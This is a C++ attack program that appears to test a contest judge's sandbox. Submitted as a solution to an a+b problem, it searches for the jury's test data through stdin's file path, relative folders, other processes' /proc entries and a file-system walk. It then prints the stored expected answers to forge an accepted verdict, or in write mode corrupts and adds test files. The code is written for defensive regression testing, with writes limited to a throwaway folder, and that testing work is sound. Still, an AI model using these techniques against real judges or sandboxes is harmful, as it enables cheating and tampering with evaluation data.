/**
 * Attack (issue 12): reach the jury's files of a+b from a submission, to read the expected
 *         answers (forged AC) or, with ATTACK_WRITE, to damage testdata/.
 * Problem: aplusb of judge/testroot (attack_test.sh runs it on a throwaway copy of it)
 * Routes (ATTACK_ROUTE, default "all"), each giving folders that may be testdata/aplusb:
 *   fd0       the path of stdin (/proc/self/fd/0), whose .in becomes .ans
 *   relative  testdata/aplusb, ../testdata/aplusb, ... up to 6 levels from the working folder
 *   proc      every visible process: /proc/<pid>/cwd (+ the relative paths), /proc/<pid>/root
 *             + the path of its cwd, the .in/.ans it has open, path arguments of its command
 *             line and PWD of its environment
 *   search    a bounded walk of the file system from / looking for testdata/aplusb
 * Read (default): prints the .ans of the case whose .in equals this run's input; prints
 *   "contained" when it finds none. Contained = WA on every case.
 * Write (ATTACK_WRITE defined): appends to every .in and .ans it reaches, rewrites the .ans of
 *   its own case, adds a case, then prints a + b. Contained = testdata/ unchanged.
 * Safety: writes only below a real path holding ATTACK_TARGET (the test's temporary folder),
 *   never to the repository's own testdata.
 * Status: got through the judge before the sandbox (a35ce73) by every route, reading and writing,
 * as root and as nobody. Contained by the sandbox.
 */
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdarg>
#include <cstdio>
#include <cstdlib>
#include <cstring>

// C headers and POSIX only (no <string>, <vector>, <set>): the judge compiles this file once a
// variant (four routes, reading and writing: eight compiles an attack run), and those headers
// took 3/4 of each compile (1.5 s of CPU, 0.35 s without them).

#ifndef ATTACK_ROUTE
#define ATTACK_ROUTE "all"
#endif
#ifndef ATTACK_TARGET
#define ATTACK_TARGET "judge-attack-test"
#endif

// Paths are built in buffers of this size; a longer one (none is a real path) is dropped.
const int kPathBytes = 3 * PATH_MAX;

bool route(const char* name) {
    return strcmp(ATTACK_ROUTE, "all") == 0 || strcmp(ATTACK_ROUTE, name) == 0;
}

bool ends_with(const char* text, const char* tail) {
    size_t length = strlen(text), tail_length = strlen(tail);
    return length >= tail_length && strcmp(text + length - tail_length, tail) == 0;
}

// snprintf into a path buffer (kPathBytes); false when it does not fit.
bool format_path(char* path, const char* format, ...) __attribute__((format(printf, 2, 3)));
bool format_path(char* path, const char* format, ...) {
    va_list arguments;
    va_start(arguments, format);
    int length = vsnprintf(path, kPathBytes, format, arguments);
    va_end(arguments);
    return length >= 0 && length < kPathBytes;
}

// A growing NUL-terminated buffer of bytes (which may hold NULs).
struct Bytes {
    char* data = nullptr;
    size_t size = 0, capacity = 0;
};

void append(Bytes& bytes, const char* more, size_t count) {
    if (bytes.size + count + 1 > bytes.capacity) {
        size_t capacity = bytes.capacity ? bytes.capacity : 4096;
        while (bytes.size + count + 1 > capacity) capacity *= 2;
        char* grown = static_cast<char*>(realloc(bytes.data, capacity));
        if (!grown) abort();
        bytes.data = grown;
        bytes.capacity = capacity;
    }
    memcpy(bytes.data + bytes.size, more, count);
    bytes.size += count;
    bytes.data[bytes.size] = '\0';
}

bool same_bytes(const Bytes& first, const Bytes& second) {
    return first.size == second.size && memcmp(first.data, second.data, first.size) == 0;
}

// A list of strings (each its own malloc'd copy).
struct List {
    char** items = nullptr;
    size_t count = 0, capacity = 0;
};

void push(List& list, const char* text) {
    if (list.count == list.capacity) {
        list.capacity = list.capacity ? 2 * list.capacity : 64;
        char** grown = static_cast<char**>(realloc(list.items, list.capacity * sizeof(char*)));
        if (!grown) abort();
        list.items = grown;
    }
    char* copy = strdup(text);
    if (!copy) abort();
    list.items[list.count++] = copy;
}

void free_list(List& list) {
    for (size_t i = 0; i < list.count; ++i) free(list.items[i]);
    free(list.items);
    list = List();
}

int compare_strings(const void* first, const void* second) {
    return strcmp(*static_cast<char* const*>(first), *static_cast<char* const*>(second));
}

// Sorted, each string once (a std::set's order: strcmp's, byte by byte).
void sort_unique(List& list) {
    qsort(list.items, list.count, sizeof(char*), compare_strings);
    size_t kept = 0;
    for (size_t i = 0; i < list.count; ++i)
        if (kept > 0 && strcmp(list.items[kept - 1], list.items[i]) == 0)
            free(list.items[i]);
        else
            list.items[kept++] = list.items[i];
    list.count = kept;
}

// Regular files only (O_NONBLOCK: a FIFO must not hang us), at most 1 MiB.
bool read_file(const char* path, Bytes& text) {
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) return false;
    struct stat info;
    if (fstat(fd, &info) != 0 || !S_ISREG(info.st_mode)) {
        close(fd);
        return false;
    }
    text.size = 0;
    append(text, "", 0);
    char buffer[4096];
    ssize_t got;
    while ((got = read(fd, buffer, sizeof buffer)) > 0 && text.size < (1u << 20))
        append(text, buffer, static_cast<size_t>(got));
    close(fd);
    return true;
}

// The link's target, or "".
void link_target(const char* path, char (&target)[PATH_MAX]) {
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length > 0 ? length : 0] = '\0';
}

List entries(const char* folder) {
    List names;
    if (DIR* dir = opendir(folder)) {
        while (dirent* entry = readdir(dir))
            if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0)
                push(names, entry->d_name);
        closedir(dir);
    }
    return names;
}

// The non-empty parts of a NUL-separated block, in turn: for (part = first; part; part = next).
const char* first_part(const Bytes& text, const char* from) {
    const char* end = text.data + text.size;
    while (from < end && *from == '\0') ++from;
    return from < end ? from : nullptr;
}
const char* next_part(const Bytes& text, const char* part) {
    return first_part(text, part + strlen(part));
}

void parent_of(const char* path, char (&parent)[kPathBytes]) {
    const char* slash = strrchr(path, '/');
    if (!slash)
        strcpy(parent, ".");
    else if (slash == path)
        strcpy(parent, "/");
    else
        snprintf(parent, sizeof parent, "%.*s", static_cast<int>(slash - path), path);
}

List problem_dirs;  // folders that may be testdata/aplusb (sort_unique before use)
List answer_files;  // .ans of this run's own case
List open_answers;  // .ans other processes have open (a checker: maybe another case)

void add_relative(const char* base) {
    char up[3 * 6 + 1] = "";
    char path[kPathBytes];
    for (int level = 0; level <= 6; ++level, strcat(up, "../")) {
        if (format_path(path, "%s%stestdata/aplusb", base, up)) push(problem_dirs, path);
        if (format_path(path, "%s%sjudge/testroot/testdata/aplusb", base, up))
            push(problem_dirs, path);
    }
}

// A path of another process's mount namespace, reached through its /proc/<pid>/root.
void add_absolute(const char* root, const char* path) {
    if (path[0] != '/') return;
    char joined[kPathBytes], parent[kPathBytes], grandparent[kPathBytes];
    if (format_path(joined, "%s%s/", root, path)) add_relative(joined);
    if (ends_with(path, ".in") || ends_with(path, ".ans")) {
        parent_of(path, parent);
        parent_of(parent, grandparent);
        if (format_path(joined, "%s%s", root, grandparent)) push(problem_dirs, joined);
    }
}

void route_fd0() {
    char path[PATH_MAX], answer[kPathBytes];
    link_target("/proc/self/fd/0", path);
    add_absolute("", path);
    if (ends_with(path, ".in") &&
        format_path(answer, "%.*s.ans", static_cast<int>(strlen(path) - 3), path))
        push(answer_files, answer);
}

void route_proc() {
    char self[32], base[kPathBytes], path[kPathBytes], root[kPathBytes], target[PATH_MAX];
    snprintf(self, sizeof self, "%d", getpid());
    List pids = entries("/proc");
    for (size_t p = 0; p < pids.count; ++p) {
        const char* pid = pids.items[p];
        if (strspn(pid, "0123456789") != strlen(pid) || strcmp(pid, self) == 0) continue;
        format_path(base, "/proc/%s", pid);
        format_path(path, "%s/cwd/", base);
        add_relative(path);
        format_path(root, "%s/root", base);
        format_path(path, "%s/cwd", base);
        link_target(path, target);
        add_absolute(root, target);
        format_path(path, "%s/fd", base);
        List fds = entries(path);
        for (size_t f = 0; f < fds.count; ++f) {
            format_path(path, "%s/fd/%s", base, fds.items[f]);
            link_target(path, target);
            if (ends_with(target, ".ans")) push(open_answers, path);
            add_absolute(root, target);
        }
        free_list(fds);
        Bytes text;
        format_path(path, "%s/cmdline", base);
        if (read_file(path, text))
            for (const char* argument = first_part(text, text.data); argument;
                 argument = next_part(text, argument))
                add_absolute(root, argument);
        format_path(path, "%s/environ", base);
        if (read_file(path, text))
            for (const char* variable = first_part(text, text.data); variable;
                 variable = next_part(text, variable))
                if (strncmp(variable, "PWD=", 4) == 0) add_absolute(root, variable + 4);
        free(text.data);
    }
    free_list(pids);
}

// Breadth first from /, at most 7 levels and 40 000 folders, skipping the system's own trees.
void route_search() {
    static const char* const skip[] = {"/proc",  "/sys",   "/dev", "/usr",     "/lib",
                                       "/lib32", "/lib64", "/bin", "/sbin",    "/boot",
                                       "/snap",  "/nix",   "/run", "/var/lib", "/var/cache"};
    List queue;  // folders to visit, in order; depths[i] is queue.items[i]'s depth
    int* depths = nullptr;
    size_t depths_capacity = 0;
    auto enqueue = [&](const char* folder, int depth) {
        push(queue, folder);
        if (queue.count > depths_capacity) {
            depths_capacity = queue.capacity;
            int* grown = static_cast<int*>(realloc(depths, depths_capacity * sizeof(int)));
            if (!grown) abort();
            depths = grown;
        }
        depths[queue.count - 1] = depth;
    };
    enqueue("/", 0);
    char path[kPathBytes];
    size_t front = 0;
    int visited = 0;
    while (front < queue.count && visited < 40000) {
        char* folder = queue.items[front];
        int depth = depths[front++];
        ++visited;
        List names = entries(folder);
        for (size_t i = 0; i < names.count; ++i) {
            const char* name = names.items[i];
            if (!format_path(path, "%s/%s", strcmp(folder, "/") == 0 ? "" : folder, name)) continue;
            bool skipped = strcmp(name, ".git") == 0 || strcmp(name, "node_modules") == 0;
            for (const char* system : skip) skipped = skipped || strcmp(path, system) == 0;
            if (skipped) continue;
            struct stat info;
            if (lstat(path, &info) != 0 || !S_ISDIR(info.st_mode)) continue;
            char problem[kPathBytes];
            if (strcmp(name, "testdata") == 0 && format_path(problem, "%s/aplusb", path))
                push(problem_dirs, problem);
            if (depth + 1 < 7) enqueue(path, depth + 1);
        }
        free_list(names);
        free(folder);
        queue.items[front - 1] = nullptr;
    }
    free_list(queue);
    free(depths);
}

// The .in files of a problem folder: its groups (sample/, secret/, ...) one level down.
List inputs_of(const char* problem) {
    List found;
    char path[kPathBytes];
    List groups = entries(problem);
    for (size_t g = 0; g < groups.count; ++g) {
        format_path(path, "%s/%s", problem, groups.items[g]);
        List names = entries(path);
        for (size_t n = 0; n < names.count; ++n)
            if (ends_with(names.items[n], ".in") &&
                format_path(path, "%s/%s/%s", problem, groups.items[g], names.items[n]))
                push(found, path);
        free_list(names);
    }
    free_list(groups);
    return found;
}

// The .ans beside an .in.
bool answer_of(const char* input, char (&answer)[kPathBytes]) {
    return format_path(answer, "%.*s.ans", static_cast<int>(strlen(input) - 3), input);
}

bool writable_target(const char* path) {
    char real[PATH_MAX];
    return realpath(path, real) && strstr(real, ATTACK_TARGET) != nullptr;
}

int damaged = 0;

void write_to(const char* path, const char* text, int flags) {
    char parent[kPathBytes];
    if (flags & O_CREAT) parent_of(path, parent);
    if (!writable_target((flags & O_CREAT) ? parent : path)) return;
    int fd = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK | flags, 0644);
    if (fd < 0) return;
    if (write(fd, text, strlen(text)) > 0) ++damaged;
    close(fd);
}

void damage() {
    write_to("/proc/self/fd/0", "\n9\n", O_APPEND);  // reopens stdin's file for writing
    for (size_t i = 0; i < answer_files.count; ++i)
        write_to(answer_files.items[i], "666\n", O_TRUNC);
    for (size_t i = 0; i < open_answers.count; ++i)
        write_to(open_answers.items[i], "1\n", O_APPEND);
    char path[kPathBytes];
    for (size_t p = 0; p < problem_dirs.count; ++p) {
        const char* problem = problem_dirs.items[p];
        if (!writable_target(problem)) continue;
        List inputs = inputs_of(problem);
        for (size_t i = 0; i < inputs.count; ++i) {
            write_to(inputs.items[i], " 1\n", O_APPEND);
            if (answer_of(inputs.items[i], path)) write_to(path, "1\n", O_APPEND);
        }
        free_list(inputs);
        if (format_path(path, "%s/secret/zz_attack.in", problem))
            write_to(path, "1 1\n", O_CREAT | O_TRUNC);
        if (format_path(path, "%s/secret/zz_attack.ans", problem))
            write_to(path, "3\n", O_CREAT | O_TRUNC);
    }
}

int main() {
    Bytes input;
    append(input, "", 0);
    char buffer[4096];
    ssize_t got;
    while ((got = read(0, buffer, sizeof buffer)) > 0)
        append(input, buffer, static_cast<size_t>(got));

    if (route("fd0")) route_fd0();
    if (route("relative")) add_relative("");
    if (route("proc")) route_proc();
    if (route("search")) route_search();
    sort_unique(problem_dirs);

#ifdef ATTACK_WRITE
    damage();
    fprintf(stderr, "jury_files: %d writes into testdata\n", damaged);
    long long a = 0, b = 0;
    if (sscanf(input.data, "%lld %lld", &a, &b) == 2) printf("%lld\n", a + b);
#else
    Bytes text, answer;
    for (size_t i = 0; i < answer_files.count; ++i)
        if (read_file(answer_files.items[i], answer) && answer.size > 0) {
            fputs(answer.data, stdout);
            return 0;
        }
    // This test's own copy first: another copy's answers may differ.
    List ordered;
    for (size_t p = 0; p < problem_dirs.count; ++p)
        if (writable_target(problem_dirs.items[p])) push(ordered, problem_dirs.items[p]);
    for (size_t p = 0; p < problem_dirs.count; ++p)
        if (!writable_target(problem_dirs.items[p])) push(ordered, problem_dirs.items[p]);
    char path[kPathBytes];
    for (size_t p = 0; p < ordered.count; ++p) {
        List inputs = inputs_of(ordered.items[p]);
        for (size_t i = 0; i < inputs.count; ++i)
            if (read_file(inputs.items[i], text) && same_bytes(text, input) &&
                answer_of(inputs.items[i], path) && read_file(path, answer)) {
                fputs(answer.data, stdout);
                return 0;
            }
        free_list(inputs);
    }
    for (size_t i = 0; i < open_answers.count; ++i)
        if (read_file(open_answers.items[i], answer) && answer.size > 0) {
            fputs(answer.data, stdout);
            return 0;
        }
    puts("contained");
#endif
}
